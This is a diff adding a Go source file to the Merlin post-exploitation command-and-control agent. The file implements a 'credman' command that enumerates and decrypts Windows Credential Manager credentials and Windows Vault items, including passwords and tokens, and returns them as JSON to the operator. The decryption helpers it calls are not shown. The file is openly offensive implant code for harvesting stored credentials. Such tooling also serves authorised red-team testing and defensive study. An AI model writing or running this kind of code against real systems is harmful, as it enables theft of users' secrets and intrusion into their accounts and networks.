@@ -0,0 +1,93 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// storedCredential is a credential saved in the Windows Credential Manager or a Windows Vault
+type storedCredential struct {
+	Store   string `json:"store"`             // Store is credman or the name of the vault the credential is in
+	Type    string `json:"type"`              // Type is the credential's type, such as generic or domain-password
+	Target  string `json:"target"`            // Target is the resource the credential is for, such as a server or URL
+	User    string `json:"user,omitempty"`    // User is the credential's username
+	Secret  string `json:"secret,omitempty"`  // Secret is the decrypted password or token, if it is readable
+	Comment string `json:"comment,omitempty"` // Comment is the credential's comment or friendly name
+	Persist string `json:"persist,omitempty"` // Persist is how long the credential is kept: session, local-machine, or enterprise
+	Written string `json:"written"`           // Written is when the credential was last changed, in UTC ISO-8601
+}
+
+// CredMan enumerates and decrypts the Credential Manager credentials and Windows Vault items accessible to the user the
+// Agent is running as, or impersonating, and returns them as JSON
+// credman [credentials|vault]  - Without an argument, collects both
+func CredMan(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering CredMan() with %+v", cmd))
+
+	store := "all"
+	if len(cmd.Args) > 0 {
+		store = strings.ToLower(cmd.Args[0])
+	}
+
+	credentials := []storedCredential{}
+	switch store {
+	case "all", "credentials", "vault":
+	default:
+		results.Stderr = fmt.Sprintf("unknown credman store: %s", cmd.Args[0])
+		return
+	}
+	if store == "all" || store == "credentials" {
+		found, err := credentialManager()
+		credentials = append(credentials, found...)
+		if err != nil {
+			results.Stderr += err.Error() + "\n"
+		}
+	}
+	if store == "all" || store == "vault" {
+		found, err := windowsVault()
+		credentials = append(credentials, found...)
+		if err != nil {
+			results.Stderr += err.Error() + "\n"
+		}
+	}
+
+	var data bytes.Buffer
+	encoder := json.NewEncoder(&data)
+	encoder.SetEscapeHTML(false)
+	encoder.SetIndent("", "  ")
+	err := encoder.Encode(credentials)
+	if err != nil {
+		results.Stderr += fmt.Sprintf("there was an error marshalling the credentials to JSON: %s", err)
+		return
+	}
+	results.Stdout = data.String()
+	return
+}